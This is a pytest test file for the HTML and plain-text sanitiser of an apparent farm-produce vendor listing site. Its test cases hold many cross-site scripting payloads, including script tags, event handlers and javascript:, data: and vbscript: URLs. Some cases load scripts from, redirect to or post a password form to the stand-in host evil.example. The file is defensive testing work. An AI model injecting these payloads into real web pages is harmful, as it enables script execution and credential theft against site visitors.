import pytest

from vendors.listings.sanitize import html_as_plain_text, plain_text_as_html, sanitize_html, sanitize_text

REL = 'rel="nofollow noopener noreferrer"'


@pytest.mark.parametrize(
    "hostile, cleaned",
    [
        ("<script>alert(1)</script>红枣", "红枣"),
        ("<ScRiPt>alert(1)</sCrIpT>红枣", "红枣"),
        ('<script src="https://evil.example/x.js"></script>红枣', "红枣"),
        ("<scr<script>ipt>alert(1)</script>", "ipt&gt;alert(1)"),
        ("<img src=x onerror=alert(1)>红枣", "红枣"),
        ('<IMG SRC="x" ONERROR="alert(1)">', ""),
        ('<a href="javascript:alert(1)">看看</a>', f"<a {REL}>看看</a>"),
        ('<a href="JaVaScRiPt:alert(1)">看看</a>', f"<a {REL}>看看</a>"),
        ('<a href="jav&#x09;ascript:alert(1)">看看</a>', f"<a {REL}>看看</a>"),
        ('<a href=" javascript:alert(1)">看看</a>', f"<a {REL}>看看</a>"),
        ('<a href="data:text/html,<script>alert(1)</script>">看看</a>', f"<a {REL}>看看</a>"),
        ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">看看</a>', f"<a {REL}>看看</a>"),
        ('<a href="vbscript:msgbox(1)">看看</a>', f"<a {REL}>看看</a>"),
        ('<a href="//evil.example/">看看</a>', f"<a {REL}>看看</a>"),
        (
            '<a href="https://example.com/" onmouseover="alert(1)">看看</a>',
            f'<a href="https://example.com/" {REL}>看看</a>',
        ),
        ('<p style="position:fixed;top:0;left:0;width:100%">假公告</p>', "<p>假公告</p>"),
        ('<p class="btn" id="checkout" onclick="alert(1)">红枣</p>', "<p>红枣</p>"),
        ('<p title="x" lang="en" dir="rtl">红枣</p>', "<p>红枣</p>"),
        ('<iframe src="https://evil.example/">fallback</iframe>红枣', "红枣"),
        ("<IFRAME SRCDOC='&lt;script&gt;alert(1)&lt;/script&gt;'></IFRAME>红枣", "红枣"),
        ("<svg onload=alert(1)><circle r=1 /></svg>红枣", "红枣"),
        ("<svg><script>alert(1)</script></svg>红枣", "红枣"),
        ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>红枣', "红枣"),
        ("<style>body { display: none }</style>红枣", "红枣"),
        ("<STYLE>@import 'https://evil.example/x.css';</STYLE>红枣", "红枣"),
        ('<object data="https://evil.example/x.swf">x</object>红枣', "红枣"),
        ('<form action="https://evil.example/"><input name="password"></form>红枣', "红枣"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">红枣', "红枣"),
        ("<!-- <script>alert(1)</script> -->红枣", "红枣"),
        ('<div><span title="x">红枣</span></div>', "红枣"),
    ],
)
def test_hostile_html_does_not_survive(hostile, cleaned):
    # given hostile vendor HTML
    # when it is sanitised
    result = sanitize_html(hostile)

    # then only harmless text and tags are left
    assert result == cleaned


@pytest.mark.parametrize(
    "allowed",
    [
        "<p>临县红枣，<strong>特级</strong>，<em>当年新枣</em>。<br>顺丰包邮</p>",
        "<h3>产地</h3><h4>临县</h4><blockquote>黄河边的枣树</blockquote>",
        "<ul><li>500克</li><li>1000克</li></ul><ol><li>清洗</li><li>晾干</li></ol>",
        "<p><b>粗</b> <i>斜</i> <u>下划线</u></p>",
        f'<a href="https://example.com/linxian" {REL}>合作社介绍</a>',
        f'<a href="http://example.com/" {REL}>旧网站</a>',
        f'<a href="mailto:coop@example.com" {REL}>写信给我们</a>',
    ],
)
def test_allowed_formatting_survives(allowed):
    # given vendor HTML within the allow-list
    # when it is sanitised
    result = sanitize_html(allowed)

    # then it is unchanged
    assert result == allowed


def test_links_get_our_rel_and_lose_every_other_attribute():
    # given a link with a target and a rel of the vendor's choosing
    hostile = '<a href="https://example.com/" target="_blank" rel="opener" title="x">看看</a>'

    # when it is sanitised
    result = sanitize_html(hostile)

    # then only href remains, with our rel
    assert result == f'<a href="https://example.com/" {REL}>看看</a>'


def test_text_outside_tags_is_escaped():
    # given text with characters that mean something in HTML
    text = "5斤 < 10斤 & 更便宜"

    # when it is sanitised
    result = sanitize_html(text)

    # then they are escaped, so the result can be rendered with |safe
    assert result == "5斤 &lt; 10斤 &amp; 更便宜"


@pytest.mark.parametrize(
    "hostile, plain",
    [
        ("王家庄<script>alert(1)</script>合作社", "王家庄合作社"),
        ("王家庄<ScRiPt>alert(1)</sCrIpT>合作社", "王家庄合作社"),
        ("<style>body{display:none}</style>王家庄合作社", "王家庄合作社"),
        ("<b>王家庄</b><img src=x onerror=alert(1)>合作社", "王家庄合作社"),
        ('<a href="javascript:alert(1)">王家庄合作社</a>', "王家庄合作社"),
        ("<p>王家庄</p><p>合作社</p>", "王家庄合作社"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;王家庄合作社", "王家庄合作社"),
        ("&amp;lt;img src=x onerror=alert(1)&amp;gt;王家庄合作社", "王家庄合作社"),
        ("<svg onload=alert(1)>x</svg>王家庄合作社", "王家庄合作社"),
    ],
)
def test_plain_text_keeps_no_tag(hostile, plain):
    # given a vendor name or story carrying markup, some of it escaped once or twice
    # when it is reduced to plain text
    result = sanitize_text(hostile)

    # then no tag is left, not even one that unescaping would produce
    assert result == plain


def test_plain_text_keeps_characters_and_strips_whitespace_at_the_ends():
    # given a name with characters that mean something in HTML and spaces around it
    text = " \n\t\u3000王家庄 & 李家沟 <合作社> 5 < 10\u3000 \n"

    # when it is reduced to plain text
    result = sanitize_text(text)

    # then the characters stay unescaped (templates escape them) and the ends are trimmed
    assert result == "王家庄 & 李家沟 <合作社> 5 < 10"


def test_a_description_typed_as_plain_text_becomes_paragraphs_and_comes_back_as_typed():
    # given what a farmer types on her phone: two lines, an empty line, characters that mean something in HTML
    typed = "枣子甜\r\n个大肉厚\r\n\r\n  5 斤 < 10 斤 & 包邮  "

    # when it is turned into the description's HTML, and back into text for the form
    description = plain_text_as_html(typed)
    shown = html_as_plain_text(description)

    # then: paragraphs and a line break, escaped; the same text back; nothing the sanitiser would change
    assert description == "<p>枣子甜<br>个大肉厚</p><p>5 斤 &lt; 10 斤 &amp; 包邮</p>"
    assert shown == "枣子甜\n个大肉厚\n\n5 斤 < 10 斤 & 包邮"
    assert sanitize_html(description) == description


@pytest.mark.parametrize(
    "formatted", ["<p>农家自种，<strong>个大肉厚</strong></p>", "<ul><li>一斤</li></ul>", "纯文字"]
)
def test_a_description_with_more_than_paragraphs_is_edited_as_html(formatted):
    # when / then: the form shows the HTML itself
    assert html_as_plain_text(formatted) is None
